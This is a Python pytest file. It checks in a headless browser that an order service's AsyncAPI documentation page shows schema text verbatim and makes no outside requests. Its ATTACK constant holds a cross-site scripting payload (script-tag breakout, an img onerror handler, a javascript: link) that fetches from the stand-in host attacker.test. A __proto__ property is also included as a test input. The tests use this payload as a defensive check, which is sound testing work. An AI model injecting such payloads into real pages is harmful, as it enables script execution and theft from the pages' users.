"""A service's AsyncAPI page in a browser: it shows what the document says, and runs none of it."""

import json
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from bakery import Bakery
from tools import tool

# What a browser asks for on its own account, whatever the page is.
ITS_OWN = re.compile(r"(^|[./])(google|googleapis|gvt1)\.com[:/]")
BROWSERS = ("chromium", "chromium-browser", "google-chrome")
SERVICES = ("orders", "payments", "shipping", "notifications")
DOCUMENT = """
import json, sys
from importlib import import_module
service = import_module(f"order_flow.services.{sys.argv[1]}").service
print(json.dumps(service.app.schema.to_specification().to_jsonable()))
"""

ATTACK = (
    "</script></p><script>fetch('http://attacker.test/script')</script>"
    "<img src='http://attacker.test/image' onerror=\"fetch('http://attacker.test/handler')\">"
    "<a href='javascript:alert(1)'>&amp; 100 %</a>"
)


def hostile() -> dict[str, Any]:
    """A document with an attack wherever there is a text, and with all shapes of a schema."""
    fields: dict[str, Any] = {
        ATTACK: {"type": "string", "description": ATTACK, "pattern": ATTACK, "default": ATTACK},
        "one": {"enum": [ATTACK, 2]},
        "constant": {"const": ATTACK},
        "nested": {"$ref": "#/components/schemas/Inner"},
        "maybe": {"anyOf": [{"type": "integer", "minimum": 3}, {"type": "null"}]},
        "both": {"allOf": [{"$ref": "#/components/schemas/Inner"}, {"type": "object"}]},
        "map": {"type": "object", "additionalProperties": {"type": "number"}},
        "lists": {"type": "array", "items": {"type": ["string", "null"]}},
        "whatever": {},
    }
    outer = {"properties": fields, "description": ATTACK, "required": ["one"]}
    inner = {"properties": {"__proto__": {"type": "boolean"}}}
    payload = {"$ref": "#/components/schemas/Outer"}
    return {
        "info": {"title": ATTACK, "version": ATTACK},
        "servers": {ATTACK: {"protocol": ATTACK, "host": ATTACK}},
        "channels": {"a/b~": {"address": ATTACK, "description": ATTACK}},
        "operations": {
            action: {
                "action": action,
                "channel": {"$ref": "#/channels/a~1b~0"},
                "messages": [{"payload": payload}],
            }
            for action in ("receive", "send")
        },
        "components": {"schemas": {"Outer": outer, "Inner": inner, ATTACK: {"type": "string"}}},
    }


class Page(HTMLParser):
    """What a browser made of the page: its text, and each element's name."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.text = ""
        self.elements: list[str] = []
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        self.text += data


@dataclass
class Server:
    """Serves the page with a document of the test's, and is the browser's way to anywhere else."""

    port: int
    requested: list[str]


@contextmanager
def serving(pages: Path, document: Any) -> Iterator[Server]:
    served = {
        "/asyncapi": ("text/html", (pages / "asyncapi.html").read_bytes()),
        "/asyncapi.js": ("text/javascript", (pages / "asyncapi.js").read_bytes()),
        "/asyncapi.json": ("application/json", json.dumps(document).encode()),
    }
    requested: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requested.append(self.path)  # of another host, through the proxy: with its address
            kind, body = served.get(
                self.path.removeprefix(f"http://{self.headers['Host']}"), ("", b"")
            )
            self.send_response(200 if kind else 404)
            self.send_header("Content-Type", f"{kind}; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def do_CONNECT(self) -> None:
            requested.append(self.path)
            self.send_error(404)

        def log_message(self, format: str, *arguments: Any) -> None:
            """Requests are in the list."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Server(server.server_port, requested)
    server.shutdown()
    server.server_close()


@pytest.fixture
def browser() -> str:
    name = next(filter(shutil.which, BROWSERS), BROWSERS[0])
    return tool(name, "the AsyncAPI page shows its document")


def show(browser: str, server: Server, profile: Path) -> Page:
    """Return what stands on the page when its script has run."""
    done = subprocess.run(
        [
            browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            f"--user-data-dir={profile}", f"--proxy-server=127.0.0.1:{server.port}",
            "--proxy-bypass-list=<-loopback>", "--virtual-time-budget=5000", "--dump-dom",
            f"http://127.0.0.1:{server.port}/asyncapi",
        ],
        capture_output=True, encoding="utf-8", timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return Page(done.stdout)


def requests(server: Server) -> list[str]:
    """What the page asked for: of its own server by its name, of any other with the address."""
    return sorted(
        request.removeprefix(f"http://127.0.0.1:{server.port}/")
        for request in server.requested
        if not ITS_OWN.search(request)
    )


@pytest.mark.parametrize("service", SERVICES)
def test_page_shows_what_a_service_sends_and_receives(
    service: str, default_project: Path, bakery: Bakery, browser: str, tmp_path: Path
) -> None:
    printed = subprocess.run(
        ["uv", "run", "python", "-c", DOCUMENT, service],
        cwd=default_project, env=bakery.environment() | {"OTEL_SDK_DISABLED": "true"},
        capture_output=True, encoding="utf-8", check=True,
    )  # fmt: skip
    document = json.loads(printed.stdout.splitlines()[-1])
    with serving(default_project / "src/order_flow/pages", document) as server:
        page = show(browser, server, tmp_path)

    told = [channel["address"] for channel in document["channels"].values()]
    for name, schema in document["components"]["schemas"].items():
        if "properties" in schema:
            told += [name, *schema["properties"]]
    assert len(told) > 5
    assert [text for text in told if text not in page.text] == []
    assert f"{service} service" in page.text
    for wrong in ("undefined", "[object", "Cannot show", ":Message:Payload"):
        assert wrong not in page.text
    assert requests(server) == ["asyncapi", "asyncapi.js", "asyncapi.json"]


def test_page_takes_texts_for_texts(default_project: Path, browser: str, tmp_path: Path) -> None:
    with serving(default_project / "src/order_flow/pages", hostile()) as server:
        page = show(browser, server, tmp_path)

    assert page.text.count(ATTACK) >= 10
    assert "Cannot show" not in page.text
    assert "img" not in page.elements
    assert page.elements.count("script") == 1
    assert [
        link for link in page.links if not link.startswith(("#schema-", "asyncapi.json", "data:,"))
    ] == []
    assert requests(server) == ["asyncapi", "asyncapi.js", "asyncapi.json"]


def test_shapes_of_a_schema_are_told_in_words(
    default_project: Path, browser: str, tmp_path: Path
) -> None:
    with serving(default_project / "src/order_flow/pages", hostile()) as server:
        page = show(browser, server, tmp_path)

    text = " ".join(page.text.split())
    for words in (
        "maybe optionalinteger or null ≥ 3",
        "both optionalInner and object",
        "map optionalmap of number",
        "lists optionalarray of string or null",
        "whatever optionalanything",
        "one", "nested optionalInner", "__proto__ optionalboolean",
    ):  # fmt: skip
        assert words in text
